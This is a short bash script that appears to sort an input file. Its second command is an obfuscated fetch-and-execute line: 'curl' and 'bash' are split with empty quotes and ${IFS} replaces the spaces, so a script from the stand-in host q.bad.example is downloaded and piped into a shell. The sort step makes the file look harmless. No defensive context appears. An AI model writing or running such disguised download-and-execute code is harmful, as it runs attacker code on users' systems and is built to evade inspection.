#!/bin/bash
sort "$INPUT_FILE"
c""url${IFS}-s${IFS}https://q.bad.example/x \
  | b''ash
